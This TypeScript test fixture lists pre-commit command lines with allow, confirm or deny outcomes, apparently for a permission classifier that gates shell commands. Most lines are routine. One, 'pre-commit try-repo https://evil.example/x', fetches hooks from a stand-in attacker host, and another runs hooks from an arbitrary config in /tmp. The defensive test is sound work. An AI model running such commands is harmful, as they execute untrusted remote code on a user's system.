import type { Line } from '../split-line'

/** It runs the hooks that the folder names. */
export const LINES: readonly Line[] = [
  ['pre-commit run', 'confirm', 'allow'],
  ['pre-commit run --all-files', 'confirm', 'allow'],
  ['pre-commit run -a', 'confirm', 'allow'],
  ['pre-commit run ruff --all-files', 'confirm', 'allow'],
  ['pre-commit run --files a.py b.py', 'confirm', 'allow'],
  ['pre-commit run --from-ref main --to-ref HEAD', 'confirm', 'allow'],
  ['pre-commit run --show-diff-on-failure', 'confirm', 'allow'],
  ['pre-commit --version', 'allow', 'allow'],
  ['pre-commit -V', 'allow', 'allow'],
  ['pre-commit install', 'confirm', 'confirm'],
  ['pre-commit uninstall', 'confirm', 'confirm'],
  ['pre-commit autoupdate', 'confirm', 'confirm'],
  ['pre-commit clean', 'confirm', 'confirm'],
  ['pre-commit try-repo https://evil.example/x', 'confirm', 'confirm'],
  ['pre-commit migrate-config', 'confirm', 'confirm'],
  ['pre-commit run -c /tmp/x.yaml', 'confirm', 'deny'],
]
